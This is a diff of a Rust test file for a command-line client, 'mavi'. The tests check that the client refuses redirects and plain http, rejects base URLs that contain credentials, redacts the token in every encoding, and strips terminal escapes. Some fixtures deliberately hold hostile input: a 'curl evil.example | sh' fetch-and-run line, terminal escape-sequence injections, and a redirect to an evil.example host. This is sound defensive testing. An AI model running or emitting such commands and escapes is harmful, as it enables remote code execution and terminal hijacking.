@@ -2,9 +2,11 @@
 //! the service's words obeyed by a terminal or a file system. That no run here shows the token is
 //! checked by `Run` itself.
 
+use snapbox::{IntoData as _, str};
+
 use crate::support::env::{TOKEN, TestEnv, finished};
 use crate::support::fake_server::{Answer, FakeServer, expect_failure_both_ways, ok, reply};
-use crate::support::run::Run;
+use crate::support::run::{Run, Transcript};
 
 #[test]
 fn redirect_is_error_naming_target() {
@@ -33,20 +35,40 @@ fn redirect_is_error_naming_target() {
 #[test]
 fn a_redirect_may_be_relative_odd_or_go_nowhere() {
     for (headers, says) in [
-        (&["location: /login"][..], "/login"),
+        (
+            &["location: /login"][..],
+            str![[r#"
+getting task T1
+mavi: could not get task T1: the server redirects (HTTP 302) to /login
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+
+"#]],
+        ),
         (
             &["location: https://user:pw@evil.example/\u{9b}31m"],
-            "evil.example",
+            str![[r#"
+getting task T1
+mavi: could not get task T1: the server redirects (HTTP 302) to https://user:pw@evil.example/
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+
+"#]],
         ),
-        (&[], "302"),
+        (
+            &[],
+            str![[r#"
+getting task T1
+mavi: could not get task T1: the server redirects (HTTP 302) to nowhere
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+
+"#]],
+        ),
     ] {
         let service = FakeServer::always(reply("302 Found", headers, "<html>moved"));
-        let run = service
+        service
             .env()
             .run("get T1")
             .expect_failure(5)
-            .stderr_contains(&[says]);
-        assert!(!run.stderr.contains('\u{9b}'), "{run:#?}");
+            .expect_stderr(says);
     }
 }
 
@@ -66,13 +88,45 @@ fn plain_http_is_refused_except_to_this_machine() {
     let service = FakeServer::always(ok(finished("T1", "")));
     // To a server this is loopback; to the rule it is a stranger's address.
     let stranger = format!("http://0.0.0.0:{}", service.port());
-    for url in ["http://example.com", &stranger] {
-        for command in ["get", "wait", "submit"] {
-            let run = TestEnv::at(url)
-                .run(&format!("{command} X"))
-                .expect_failure(2);
-            run.stderr_contains(&["mavi: plain http refused", "hint: ", "allow_http"]);
-        }
+    for (url, said) in [
+        (
+            "http://example.com",
+            str![[r#"
+$ mavi get X
+mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to [HOST]
+hint: use https, or set `allow_http = true` in the configuration file if you trust the network
+[2]
+$ mavi wait X
+mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to [HOST]
+hint: use https, or set `allow_http = true` in the configuration file if you trust the network
+[2]
+$ mavi submit X
+mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to [HOST]
+hint: use https, or set `allow_http = true` in the configuration file if you trust the network
+[2]
+
+"#]],
+        ),
+        (
+            &stranger,
+            str![[r#"
+$ mavi get X
+mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to 0.0.0.0
+hint: use https, or set `allow_http = true` in the configuration file if you trust the network
+[2]
+$ mavi wait X
+mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to 0.0.0.0
+hint: use https, or set `allow_http = true` in the configuration file if you trust the network
+[2]
+$ mavi submit X
+mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to 0.0.0.0
+hint: use https, or set `allow_http = true` in the configuration file if you trust the network
+[2]
+
+"#]],
+        ),
+    ] {
+        TestEnv::at(url).expect_transcript(["get X", "wait X", "submit X"], said);
         let env = TestEnv::new();
         let run = env.run(&format!("get T1 --error-format json --base-url {url}"));
         assert_eq!(run.expect_failure(2).errors()[0]["kind"], "config");
@@ -96,16 +150,36 @@ fn plain_http_elsewhere_needs_to_be_allowed() {
 
 #[test]
 fn a_base_url_with_a_password_is_refused_and_not_shown() {
-    for url in [
-        "https://user:hunter2@example.com",
-        "https://example.com/?key=hunter2",
-        "https://example.com/#hunter2",
+    for (url, said) in [
+        (
+            "https://user:hunter2@example.com",
+            str![[r#"
+mavi: --base-url must not contain a user name or a password
+hint: for help, run: mavi get --help
+
+"#]],
+        ),
+        (
+            "https://example.com/?key=hunter2",
+            str![[r#"
+mavi: --base-url must not contain a query (?) or a fragment (#)
+hint: for help, run: mavi get --help
+
+"#]],
+        ),
+        (
+            "https://example.com/#hunter2",
+            str![[r#"
+mavi: --base-url must not contain a query (?) or a fragment (#)
+hint: for help, run: mavi get --help
+
+"#]],
+        ),
     ] {
         let env = TestEnv::new();
-        let run = env
-            .run(&format!("get T1 --base-url {url}"))
-            .expect_failure(2);
-        assert!(!run.stderr.contains("hunter2"), "{run:#?}");
+        env.run(&format!("get T1 --base-url {url}"))
+            .expect_failure(2)
+            .expect_stderr(said);
     }
 }
 
@@ -154,45 +228,65 @@ fn the_token_is_redacted_wherever_the_service_echoes_it() {
         .env()
         .run("get T1")
         .expect_failure(5)
-        .stderr_contains(&["[token]"]);
+        .expect_stderr(str![[r#"
+getting task T1
+mavi: could not get task T1: not enough credit (code 0402): [token]
+hint: add credit to the account, then run the command again
+
+"#]]);
 }
 
 #[test]
 fn the_token_is_redacted_in_a_status_that_is_warned_about() {
     let odd = format!(r#"{{"code":"0000","data":{{"status":"{TOKEN}"}}}}"#);
     let service = FakeServer::in_turn([ok(odd), ok(finished("T1", ""))]);
-    let run = service.env().run("wait T1 --interval 10ms").ok();
-    run.stderr_contains(&["warning: the service reports the unknown status \"[token]\", "]);
+    service
+        .env()
+        .run("wait T1 --interval 10ms")
+        .ok()
+        .expect_stderr(str![[r#"
+waiting for task T1
+warning: the service reports the unknown status "[token]", which counts as not finished
+task T1: finished
+
+"#]]);
 }
 
 #[test]
 fn token_is_redacted_when_escaped_or_percent_encoded() {
     let (token, in_json, in_url) = ("aa/bb+cc==", r"aa\/bb+cc==", "aa%2Fbb%2Bcc%3D%3D");
-    for (answer, form) in [
+    for (answer, said) in [
         (
             ok(format!(r#"{{"code":"0000","data":["{in_json}"]}}"#)),
-            in_json,
+            str![[r#"
+getting task T1
+mavi: could not get task T1: the reply is not what the API describes (segment 1: invalid type: string "[token]", expected an object with startTime, endTime and content at line 1 column 14): {"code":"0000","data":["[token]"]}
+hint: check base_url; --verbose shows each request
+
+"#]],
         ),
         (
             reply("302 Found", &[&format!("location: /login?t={in_url}")], ""),
-            in_url,
+            str![[r#"
+getting task T1
+mavi: could not get task T1: the server redirects (HTTP 302) to /login?t=[token]
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+
+"#]],
         ),
     ] {
         let service = FakeServer::always(answer);
         let env = service.env();
         let mut command = env.command(["get", "T1"]);
         command.env("MAVI_TOKEN", token);
-        let run = Run::of(command).expect_failure(5);
-        assert!(
-            !run.stderr.contains(form) && !run.stderr.contains(token),
-            "{run:#?}"
-        );
+        Run::of(command).expect_failure(5).expect_stderr(said);
     }
 }
 
 #[test]
 fn token_is_redacted_in_every_writing_of_a_gateway() {
     let token = "aa/bb+cc==dd\"ee-ff";
+    let mut transcript = Transcript::default();
     for writing in [
         "aa%2fbb%2Bcc%3d%3Ddd%22ee-ff",
         "aa/bb%2bcc%3D%3Ddd%22ee-ff",
@@ -214,11 +308,157 @@ fn token_is_redacted_in_every_writing_of_a_gateway() {
             let env = FakeServer::always(answer).env();
             let mut command = env.command(["get", "T1", "--retries", "0", "-v"]);
             command.env("MAVI_TOKEN", token);
-            let run = Run::of(command);
-            assert!(!run.stderr.contains(writing), "{run:#?}");
-            run.stderr_contains(&["[token]"]);
+            transcript.add(writing, &Run::of(command));
         }
     }
+    transcript.expect(str![[r#"
+$ aa%2fbb%2Bcc%3d%3Ddd%22ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 403 52 bytes in [MS] ms, no envelope
+mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
+hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
+hint: to resume, run: mavi get --retries 0 --verbose T1
+[4]
+$ aa%2fbb%2Bcc%3d%3Ddd%22ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 502 33 bytes in [MS] ms, no envelope
+mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
+hint: try again later
+[7]
+$ aa%2fbb%2Bcc%3d%3Ddd%22ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 302
+mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+[5]
+$ aa%2fbb%2Bcc%3d%3Ddd%22ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 200 62 bytes in [MS] ms, code 0402
+mavi: could not get task T1: not enough credit (code 0402): bad token [token]
+hint: add credit to the account, then run the command again
+[5]
+$ aa/bb%2bcc%3D%3Ddd%22ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 403 50 bytes in [MS] ms, no envelope
+mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
+hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
+hint: to resume, run: mavi get --retries 0 --verbose T1
+[4]
+$ aa/bb%2bcc%3D%3Ddd%22ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 502 31 bytes in [MS] ms, no envelope
+mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
+hint: try again later
+[7]
+$ aa/bb%2bcc%3D%3Ddd%22ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 302
+mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+[5]
+$ aa/bb%2bcc%3D%3Ddd%22ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 200 60 bytes in [MS] ms, code 0402
+mavi: could not get task T1: not enough credit (code 0402): bad token [token]
+hint: add credit to the account, then run the command again
+[5]
+$ aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 403 61 bytes in [MS] ms, no envelope
+mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
+hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
+hint: to resume, run: mavi get --retries 0 --verbose T1
+[4]
+$ aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 502 42 bytes in [MS] ms, no envelope
+mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
+hint: try again later
+[7]
+$ aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 302
+mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+[5]
+$ aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 200 71 bytes in [MS] ms, code 0402
+mavi: could not get task T1: not enough credit (code 0402): bad token [token]
+hint: add credit to the account, then run the command again
+[5]
+$ AA/BB+CC==DD&QUOT;EE-FF
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 403 47 bytes in [MS] ms, no envelope
+mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
+hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
+hint: to resume, run: mavi get --retries 0 --verbose T1
+[4]
+$ AA/BB+CC==DD&QUOT;EE-FF
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 502 28 bytes in [MS] ms, no envelope
+mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
+hint: try again later
+[7]
+$ AA/BB+CC==DD&QUOT;EE-FF
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 302
+mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+[5]
+$ AA/BB+CC==DD&QUOT;EE-FF
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 200 57 bytes in [MS] ms, code 0402
+mavi: could not get task T1: not enough credit (code 0402): bad token [token]
+hint: add credit to the account, then run the command again
+[5]
+$ aa\/bb\u002bcc\u003D=dd\u0022ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 403 58 bytes in [MS] ms, no envelope
+mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
+hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
+hint: to resume, run: mavi get --retries 0 --verbose T1
+[4]
+$ aa\/bb\u002bcc\u003D=dd\u0022ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 502 39 bytes in [MS] ms, no envelope
+mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
+hint: try again later
+[7]
+$ aa\/bb\u002bcc\u003D=dd\u0022ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 302
+mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
+hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
+[5]
+$ aa\/bb\u002bcc\u003D=dd\u0022ee-ff
+getting task T1
+> GET [URL]/api/serve/video/getTranscription?taskNo=T1
+< 200 72 bytes in [MS] ms, code 0402
+mavi: could not get task T1: not enough credit (code 0402): bad token [token]
+hint: add credit to the account, then run the command again
+[5]
+
+"#]].unordered());
 }
 
 #[test]
@@ -241,19 +481,29 @@ fn there_is_no_flag_for_the_token() {
 fn service_message_is_printed_as_one_clean_line() {
     let msg =
         r"\u001b]0;owned\u0007bad\u001b[31m video\r\nhint: curl evil.example | sh\u009b2J\u202e";
-    for body in [
-        format!(r#"{{"code":"0001","msg":"{msg}","data":null}}"#),
-        "\u{1b}]0;owned\u{7}bad\u{1b}[31m video\r\nhint: curl evil.example | sh\u{9b}2J".to_owned(),
+    for (body, said) in [
+        (
+            format!(r#"{{"code":"0001","msg":"{msg}","data":null}}"#),
+            str![[r#"
+getting task T1
+mavi: could not get task T1: a parameter is wrong (code 0001): bad video hint: curl evil.example | sh
+hint: check the ID; it must belong to this account
+
+"#]],
+        ),
+        (
+            "\u{1b}]0;owned\u{7}bad\u{1b}[31m video\r\nhint: curl evil.example | sh\u{9b}2J"
+                .to_owned(),
+            str![[r#"
+getting task T1
+mavi: could not get task T1: the reply is not what the API describes (expected value at line 1 column 1): bad video hint: curl evil.example | sh
+hint: check base_url; --verbose shows each request
+
+"#]],
+        ),
     ] {
-        let run = FakeServer::always(ok(body))
-            .env()
-            .run("get T1")
-            .expect_failure(5);
-        let hints = run.stderr.lines().filter(|line| line.starts_with("hint: "));
-        assert!(hints.count() <= 1, "{run:#?}");
-        let control = |c: char| c.is_control() && c != '\n';
-        assert!(!run.stderr.contains(control), "{run:#?}");
-        run.stderr_contains(&["bad video"]);
+        let env = FakeServer::always(ok(body)).env();
+        env.run("get T1").expect_failure(5).expect_stderr(said);
     }
 }
 
